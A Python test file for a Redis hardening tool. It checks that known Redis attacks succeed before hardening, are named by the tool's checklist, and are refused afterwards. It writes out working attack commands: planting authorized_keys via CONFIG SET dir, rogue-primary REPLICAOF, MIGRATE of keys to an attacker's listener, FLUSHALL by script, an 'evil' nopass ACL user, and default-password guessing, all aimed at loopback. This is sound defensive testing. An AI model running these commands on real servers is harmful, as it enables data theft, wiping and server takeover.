"""What attackers of open servers do works before an apply, is named by ``check``, and is refused after it.

Source:
    The Redis modules of Metasploit, and the rules for Redis of Elastic's detection engine.
"""

import socket
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass
from datetime import date
from functools import cache
from itertools import count
from pathlib import Path, PurePosixPath
from threading import Thread

import pytest

from tests.support.apply_bench import Bench, bench, eventually
from tests.support.data_bench import write_lines
from tests.support.servers import need
from wizard.changes.handlers import restart
from wizard.checklist.registry import check
from wizard.detect.collect import collect
from wizard.errors import LoginError, ServerError
from wizard.model.event import Result
from wizard.model.finding import Finding, State
from wizard.model.login import Login
from wizard.model.value import Secret
from wizard.planning.select_instance import choose
from wizard.sandbox.files import UNIT
from wizard.server.client import Client

pytestmark = pytest.mark.server

WEAK = "foobared"
GUESSES = ("123456", "redis", "password", WEAK)
SINCE_SEVEN = ("enable-protected-configs yes", "enable-debug-command yes", "enable-module-command yes")
BLOOM = "redisbloom.so"
"""A module that comes with the server of these tests."""


# --- an attacker's own server --------------------------------------------------------------------


@dataclass
class Trap:
    """A listener of the attacker, and the first words that came."""

    port: int
    heard: bytes = b""


@contextmanager
def trap() -> Iterator[Trap]:
    """Listen on loopback, and write down what one server sends."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.settimeout(30)
        made = Trap(listener.getsockname()[1])
        worker = Thread(target=_hear, args=(listener, made), daemon=True)
        worker.start()
        try:
            yield made
        finally:
            listener.close()


def _hear(listener: socket.socket, made: Trap) -> None:
    try:
        link, _ = listener.accept()
    except OSError:
        return
    with link:
        made.heard = link.recv(4096)


# --- attacks: each raises ServerError where it is refused --------------------------------------


def write_a_file(client: Client, box: Bench) -> None:
    """Write an RDB file where the attacker wants it, as with authorized_keys and cron."""
    place = Path(box.host.layout.directory, "planted")
    place.mkdir(exist_ok=True)
    data = str(box.host.layout.data)
    try:
        client.execute("CONFIG", "SET", "dir", str(place))
        client.execute("CONFIG", "SET", "dbfilename", "authorized_keys")
        client.execute("SAVE")
        assert (place / "authorized_keys").exists()
    finally:
        (place / "authorized_keys").unlink(missing_ok=True)
        place.rmdir()
    client.execute("CONFIG", "SET", "dir", data)
    client.execute("CONFIG", "SET", "dbfilename", "dump.rdb")


def follow_a_rogue_primary(client: Client, _: Bench) -> None:
    """Make the server a replica of the attacker's."""
    with trap() as rogue:
        client.execute("REPLICAOF", "127.0.0.1", str(rogue.port))
        eventually(lambda: b"PING" in rogue.heard.upper(), "the server does not come")
        client.execute("REPLICAOF", "NO", "ONE")


def load_a_module(client: Client, box: Bench) -> None:
    """Load code into the server."""
    binary = PurePosixPath(box.host.services.record().binary)
    client.execute("MODULE", "LOAD", str(binary.parent.parent / "lib" / BLOOM))


def wipe_by_script(client: Client, _: Bench) -> None:
    """Reach a key of others, and all of them, from inside a script."""
    client.execute("EVAL", "return redis.call('SET', KEYS[1], 'x')", "1", "victim:1")
    client.execute("EVAL", "return redis.call('FLUSHALL')", "0")


def send_keys_away(client: Client, _: Bench) -> None:
    """Send a key to the attacker's server."""
    client.execute("SET", "app:1", "x")
    with trap() as thief:
        with pytest.raises(ServerError) as refused:
            client.execute("MIGRATE", "127.0.0.1", str(thief.port), "app:1", "0", "500", "COPY")
        if "IOERR" not in str(refused.value):
            raise refused.value
        assert b"RESTORE" in thief.heard.upper()


def plant_a_value(client: Client, _: Bench) -> None:
    """Have the server read bytes of the attacker as a value."""
    client.execute("RESTORE", "app:2", "0", _payload(), "REPLACE")


@cache
def _payload() -> str:
    """Return a value as DUMP writes one, of bytes that are all ASCII: string, RDB version 6, CRC-64."""
    for number in count():
        body = bytes((0, 8)) + f"{number:08}".encode() + bytes((6, 0))
        whole = body + _crc(body).to_bytes(8, "little")
        if whole.isascii():
            return whole.decode()
    raise AssertionError


def _crc(data: bytes) -> int:
    """Return the CRC-64 of redis ``src/crc64.c`` (Jones), bit by bit."""
    found = 0
    for byte in data:
        found ^= byte
        for _ in range(8):
            found = found >> 1 ^ (0x95AC9329AC4BC9B5 if found & 1 else 0)
    return found


def debug(client: Client, _: Bench) -> None:
    """Hold the server."""
    client.execute("DEBUG", "SLEEP", "0")


def run(*commands: str) -> Callable[[Client, Bench], None]:
    """Return an attack that is these commands, one after the other; each word has no blank."""

    def attack(client: Client, _: Bench) -> None:
        for command in commands:
            client.execute(*command.split())

    return attack


LIBRARY = "#!lua name=l\nredis.register_function('f', function(keys, args) return 'of the attacker' end)"


def replace_a_function(client: Client, _: Bench) -> None:
    """Put code in the place of a function that others call with their own rights."""
    client.execute("FUNCTION", "LOAD", "REPLACE", LIBRARY)


@dataclass(frozen=True)
class Attack:
    """One attack, and the items that name it where it works."""

    run: Callable[[Client, Bench], None]
    items: tuple[str, ...]


ATTACKS: Mapping[str, Attack] = {
    "CONFIG SET dir": Attack(write_a_file, ("13", "Xprotected")),
    "REPLICAOF": Attack(follow_a_rogue_primary, ("7", "13")),
    "MODULE LOAD": Attack(load_a_module, ("13", "Xprotected")),
    "EVAL": Attack(wipe_by_script, ("7", "11")),
    "MIGRATE": Attack(send_keys_away, ("13",)),
    "RESTORE": Attack(plant_a_value, ("13",)),
    "DEBUG": Attack(debug, ("11", "Xprotected")),
    "FUNCTION LOAD": Attack(replace_a_function, ("7",)),
    "ACL SETUSER": Attack(run("ACL SETUSER evil on nopass ~* +@all", "ACL DELUSER evil"), ("7", "13")),
    "KEYS": Attack(run("KEYS *"), ("12", "13")),
    "SCAN": Attack(run("SCAN 0"), ("7",)),
    "SORT BY": Attack(run("RPUSH app:list 1", "SORT app:list BY victim:* GET victim:*"), ("7", "13")),
    "COPY": Attack(run("SET app:3 x", "COPY victim:2 app:3 DB 1 REPLACE"), ("7",)),
    "XAUTOCLAIM": Attack(
        run("XGROUP CREATE victim:s g 0 MKSTREAM", "XAUTOCLAIM victim:s g c 0 0", "DEL victim:s"), ("7",)
    ),
    "PUBLISH": Attack(run("PUBLISH victim:news x"), ("7",)),
    "CLIENT KILL": Attack(run("CLIENT KILL TYPE pubsub"), ("13",)),
    "CLIENT NO-EVICT": Attack(run("CLIENT NO-EVICT on"), ("13",)),
    "SWAPDB": Attack(run("SWAPDB 0 1", "SWAPDB 0 1"), ("7", "13")),
}


def guess(box: Bench) -> Login | None:
    """Try the passwords that everybody tries."""
    for word in GUESSES:
        login = Login("default", Secret(word))
        try:
            with box.client(login) as client:
                client.ping()
        except LoginError:
            continue
        return login
    return None


def findings(box: Bench, login: Login) -> dict[str, Finding]:
    facts = collect(box.host, login=login).facts
    report = check(facts, instance=choose(facts).name, today=_today(facts.taken_at))
    return {each.id: each for each in (*report.items, *report.extra)}


def _today(taken_at: str) -> date:
    return date.fromisoformat(taken_at[:10])


def refused_of(box: Bench, login: Login | None) -> dict[str, str]:
    """Return each attack that was refused, and why."""
    found = {}
    for name, attack in ATTACKS.items():
        try:
            with box.client(login) as client:
                attack.run(client, box)
        except ServerError as error:
            found[name] = str(error)
    return found


def start_again(box: Bench) -> None:
    box.host.services.stop(UNIT)
    box.host.services.start(UNIT)


def test_each_attack_works_before_is_named_and_is_refused_after(place: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(restart, "STEADY_SECONDS", 0.2)
    with bench(place, need("r74")) as box:
        write_lines(box, f"requirepass {WEAK}", *SINCE_SEVEN)
        start_again(box)
        login = guess(box)
        assert login is not None
        assert refused_of(box, login) == {}
        start_again(box)  # the module that was loaded cannot be unloaded
        before = findings(box, login)
        named = {item: before[item].state for each in ATTACKS.values() for item in (*each.items, "6")}
        assert named == dict.fromkeys(named, State.FAIL)
        assert "common" in before["6"].summary

        outcome = box.apply(box.plan(login=login), login=login)
        assert outcome.result is Result.APPLIED, outcome
        assert guess(box) is None
        assert refused_of(box, None).keys() == ATTACKS.keys()
        refused = refused_of(box, Login("app", box.passwords["app"]))
        assert refused.keys() == ATTACKS.keys()
        assert all("permission" in why.lower() or "not allowed" in why for why in refused.values()), refused
        after = findings(box, box.admin)
        assert {item for item in named if after[item].state is not State.PASS} == set()


@pytest.mark.parametrize("build", ["r74", "r80", "v81", "v91"], indirect=True)
def test_a_user_that_replaces_functions_of_others_is_named(box: Bench) -> None:
    users = (
        "app on >{0} ~app:* -@all +set +function|load",
        "shop on >{0} ~shop:* -@all +fcall",
        "admin on >{0} ~* &* +@all",
    )
    word = "k3V9" * 8
    with box.client() as client:
        for line in users:
            client.execute("ACL", "SETUSER", *line.format(word).split())
        client.execute("FUNCTION", "LOAD", LIBRARY.replace("of the attacker", "of the shop"))
        client.execute("ACL", "SETUSER", "default", "off")
    with box.client(Login("app", Secret(word))) as client:
        replace_a_function(client, box)
    with box.client(Login("shop", Secret(word))) as client:
        assert client.execute("FCALL", "f", "0") == "of the attacker"
    found = findings(box, Login("admin", Secret(word)))["7"]
    assert (found.state, "FUNCTION LOAD" in found.summary, "shop" in found.summary) == (State.FAIL, True, False)
